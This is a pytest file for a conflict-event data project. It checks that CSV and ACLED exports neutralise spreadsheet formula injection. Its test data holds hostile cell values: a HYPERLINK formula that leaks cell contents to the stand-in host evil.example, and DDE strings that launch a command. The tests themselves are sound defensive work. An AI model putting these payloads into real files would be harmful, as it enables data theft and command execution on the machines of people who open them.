"""CSV formula injection: no cell of any CSV export starts what a spreadsheet would run (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from factories import make_doc, make_event
from lagebild.api import create_app
from lagebild.export import FORMATS
from lagebild.export.flat_csv import safe_cell
from lagebild.model import Actor, Place
from lagebild.store.sqlite import SQLiteStore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_event(sentence: str):
    doc = make_doc(f"Text of {sentence}", source="=evil.example", url="https://x.example/a")
    event = make_event(
        doc,
        "ev-" + str(abs(hash(sentence))),
        sentence,
        type="ASSAULT",
        acled_event_type="Battles",
        acled_sub_event_type="Armed clash",
        actors=[Actor(sentence, country="UA", sector="MIL")],
        location=Place(sentence, -33.9, -18.4, country="ZA", precision="city"),
        date="2024-03-10",
        confidence=0.5,
    )
    return doc, event


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_exports_neutralise_formulas(fmt: str) -> None:
    events = [hostile_event(s)[1] for s in HOSTILE]
    out = io.StringIO()
    FORMATS[fmt](events, out)
    cells = _cells(out.getvalue())
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.replace(".", "", 1).lstrip("-").isdigit(), cell
    # The text is kept, behind the apostrophe a spreadsheet hides.
    for sentence in HOSTILE:
        assert "'" + sentence.replace("\r", "\n") in cells
    # Negative coordinates are numbers, not formulas: they stay as they are.
    assert "-33.9" in cells and "-18.4" in cells


def test_safe_cell_leaves_ordinary_values_alone() -> None:
    assert safe_cell("Kharkiv") == "Kharkiv"
    assert safe_cell("-12.5") == "-12.5"
    assert safe_cell(-12.5) == -12.5
    assert safe_cell(None) is None
    assert safe_cell("-1+1") == "'-1+1"
    assert safe_cell("=1") == "'=1"


def test_api_csv_export_is_neutralised(tmp_path: Path) -> None:
    db = tmp_path / "csv.db"
    with SQLiteStore(db) as store:
        for sentence in HOSTILE:
            store.add_document(*(lambda d, e: (d, [e]))(*hostile_event(sentence)))
    with TestClient(create_app(f"sqlite:///{db}", token="t")) as client:
        response = client.get("/api/events.csv")
    assert response.status_code == 200
    cells = _cells(response.text)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
